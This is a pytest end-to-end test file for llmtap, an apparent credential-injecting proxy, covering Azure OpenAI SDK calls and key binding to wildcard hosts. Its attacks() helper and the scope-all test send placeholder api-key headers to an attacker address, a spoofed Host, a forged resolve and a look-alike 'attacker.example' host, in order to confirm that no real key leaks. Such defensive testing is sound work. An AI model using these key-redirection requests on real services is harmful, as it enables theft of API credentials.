"""Azure OpenAI end to end: the official SDK's AzureOpenAI client, with no proxy variables, talks to
`myres.openai.azure.com` holding a placeholder in `api-key`; the target is the wildcard
`*.openai.azure.com` (plus the resource name, which the redirect resolves), the secret is bound
to the wildcard. The fake upstream gets the real key; the records say azure, the reply's model,
the deployment, exact usage and the credential's name, and no key is anywhere llmtap wrote."""

from __future__ import annotations

import json

import pytest
from test_credentials_e2e import assert_no_real_key_anywhere, exports, real_key, set_secret
from test_key_theft_e2e import curl as theft_curl
from test_key_theft_e2e import sniffer  # noqa: F401 - a fixture
from testbed import Testbed

pytestmark = pytest.mark.root

AZURE_TARGETS = ["*.openai.azure.com", "myres.openai.azure.com"]
DEPLOYMENT = "/openai/deployments/gpt4o-prod/chat/completions"

AZURE_SDK = """
    import json, os, openai
    client = openai.AzureOpenAI(
        azure_endpoint="https://myres.openai.azure.com", api_key=os.environ["AZURE_OPENAI_API_KEY"],
        api_version="2024-10-21", max_retries=0,
        http_client=openai.DefaultHttpxClient(verify=os.environ["SSL_CERT_FILE"]))
    messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "hi"}]
    whole = client.chat.completions.create(model="gpt4o-prod", messages=messages)
    chunks = list(client.chat.completions.create(model="gpt4o-prod", messages=messages, stream=True))
    print(json.dumps({
        "text": whole.choices[0].message.content, "model": whole.model,
        "usage": whole.usage.total_tokens,
        "streamed": "".join(c.choices[0].delta.content or "" for c in chunks if c.choices),
        "empty_first": chunks[0].choices == [] and bool(chunks[0].prompt_filter_results),
        "usage_chunks": sum(1 for c in chunks if c.usage is not None),
    }))
"""


def curl_status(testbed: Testbed, ca: object, url: str, *args: str) -> tuple[str, str]:
    result = testbed.curl(url, ca, "-w", "\n%{http_code}", *args)  # type: ignore[arg-type]
    body, status = result.stdout.rsplit("\n", 1)
    return body, status


def test_azure_openai_sdk_through_a_wildcard_target_and_binding(testbed, llmtap):
    daemon = llmtap(extra_hosts=AZURE_TARGETS)
    assert daemon.status()["targets"]["myres.openai.azure.com"]  # resolved for the redirect
    key = real_key("")  # Azure keys have no prefix
    set_secret(daemon, "azure", key, "--host", "*.openai.azure.com")
    mine = real_key("")
    set_secret(daemon, "mine", mine, "--host", "myres.openai.azure.com", "--header", "api-key")
    listed = {r["name"]: r for r in json.loads(daemon.llmtap("secrets", "list", "--json").stdout)}
    assert listed["azure"]["header"] == "api-key" and listed["azure"]["hosts"] == ["*.openai.azure.com"]
    env = exports(daemon)
    placeholder = env["AZURE_OPENAI_API_KEY"]  # the first secret for Azure
    assert placeholder == listed["azure"]["placeholder"] and key not in env.values()

    start = len(testbed.upstream_requests())
    sdk_env = {"AZURE_OPENAI_API_KEY": placeholder, "SSL_CERT_FILE": str(daemon.ca_pem)}
    out = json.loads(testbed.python(AZURE_SDK, env=sdk_env).stdout)
    assert out["text"] == out["streamed"] == "Bonjour de Azure — ça va ? 👋"
    assert out["model"] == "gpt-4o-2024-11-20" and out["usage"] == 36
    assert out["empty_first"] and out["usage_chunks"] == 0  # llmtap's usage chunk was removed
    seen = testbed.upstream_requests()[start:]
    assert [r["path"] for r in seen] == [DEPLOYMENT, DEPLOYMENT]
    assert all(r["headers"]["api-key"] == key for r in seen)
    assert all(r["headers"]["host"] == "myres.openai.azure.com" for r in seen)
    assert "include_usage" in seen[1]["body"]  # asked for exact usage upstream

    attacks(testbed, daemon, env, placeholder, listed["mine"]["placeholder"])

    records = daemon.records(expected=5)
    calls = [r for r in records if r["status"] == 200]
    assert len(calls) == 2
    for record, stream in zip(sorted(calls, key=lambda r: r["stream"]), (False, True), strict=True):
        assert (record["provider"], record["api"], record["stream"]) == ("azure", "chat.completions", stream)
        assert record["host"] == "myres.openai.azure.com" and record["credential"] == "azure"
        assert record["model"] == "gpt-4o-2024-11-20"
        assert record["request"]["deployment"] == "gpt4o-prod"
        assert record["request"]["api_version"] == "2024-10-21"
        assert record["error"] is None
        assert record["cost_usd"] and "azure/" in json.dumps(record["price"])  # Azure's prices
    usage = {r["stream"]: r["usage"] for r in calls}
    assert usage[False]["input_tokens"] == 25 and usage[False]["output_tokens"] == 11
    assert (usage[True]["input_tokens"], usage[True]["cache_read_tokens"]) == (250, 1280)
    daemon.stop()
    assert any(p.suffix == ".md" for p in daemon.records_dir.rglob("*"))
    assert_no_real_key_anywhere(daemon, key, mine)


def attacks(testbed: Testbed, daemon, env: dict[str, str], placeholder: str, mine: str) -> None:  # type: ignore[no-untyped-def]
    """The Azure placeholder toward anything but a resource under the wildcard gets no key."""
    start = len(testbed.upstream_requests())
    chat = f"{DEPLOYMENT}?api-version=2024-10-21"
    body = '{"messages": [{"role": "user", "content": "hi"}]}'
    # Another provider's host.
    blocked, status = curl_status(testbed, daemon.ca_pem, f"https://api.openai.com{chat}",
                                  "-H", f"api-key: {placeholder}", "-d", body)
    assert status == "403" and "llmtap_credential_blocked" in blocked
    # TLS to the resource, Host naming another target: Host and SNI must both be bound.
    _, status = curl_status(testbed, daemon.ca_pem, f"https://myres.openai.azure.com{chat}",
                            "-H", "Host: api.openai.com", "-H", f"api-key: {placeholder}", "-d", body)
    assert status == "403"
    # A secret bound to one resource, sent to another resource under the same wildcard.
    blocked, status = curl_status(testbed, daemon.ca_pem, f"https://other.openai.azure.com{chat}",
                                  "-H", f"api-key: {mine}", "-d", body)
    assert status == "403" and "may only be sent to myres.openai.azure.com" in blocked
    assert testbed.upstream_requests()[start:] == []  # nothing went out


def test_with_scope_all_a_bare_wildcard_is_enough_and_no_key_leaves_elsewhere(
        testbed, llmtap, sniffer):  # noqa: F811 - the fixture, imported
    clear, tls = sniffer(), sniffer(tls=True, last_octet=5)
    daemon = llmtap(scope="all", extra_hosts=["*.openai.azure.com"])
    key = real_key("")
    placeholder = set_secret(daemon, "azure", key, "--host", "*.openai.azure.com")
    chat = f"{DEPLOYMENT}?api-version=2024-10-21"
    body = '{"messages": [{"role": "user", "content": "hi"}]}'
    start = len(testbed.upstream_requests())
    # No name listed: with scope "all" every TCP/443 reaches the proxy, and the SNI decides.
    status, reply = theft_curl(testbed, f"https://myres.openai.azure.com{chat}", "--cacert",
                               str(daemon.ca_pem), "-H", f"api-key: {placeholder}", "-d", body)
    assert status == 200 and json.loads(reply)["model"] == "gpt-4o-2024-11-20"
    assert testbed.upstream_requests()[start]["headers"]["api-key"] == key
    # Plain HTTP naming the resource, to an attacker's address.
    status, reply = theft_curl(testbed, f"http://{clear.address}:443{chat}", "-H",
                               "host: myres.openai.azure.com", "-H", f"api-key: {placeholder}", "-d", body)
    assert status == 403 and "only added over HTTPS" in reply, reply
    # TLS naming the resource, to an address whose certificate no root vouches for.
    status, reply = theft_curl(testbed, f"https://myres.openai.azure.com{chat}", "--cacert",
                               str(daemon.ca_pem), "--resolve", f"myres.openai.azure.com:443:{tls.address}",
                               "-H", f"api-key: {placeholder}", "-d", body)
    assert status == 502, reply
    # A look-alike name is not decrypted at all: the client meets the attacker's own certificate.
    lookalike = "myres.openai.azure.com.attacker.example"
    status, _ = theft_curl(testbed, f"https://{lookalike}{chat}", "--cacert", str(daemon.ca_pem),
                           "--resolve", f"{lookalike}:443:{tls.address}", "-H", f"api-key: {placeholder}")
    assert status == 0  # curl refused the attacker's certificate: llmtap forged none
    for spy in (clear, tls):
        assert key.encode() not in spy.received() and b"api-key" not in spy.received()
    assert not [r for r in daemon.records() if r["host"] == lookalike]
    assert f"'{lookalike}' is not a target" not in daemon.stderr()  # passed through, never refused
    daemon.stop()
    assert_no_real_key_anywhere(daemon, key)
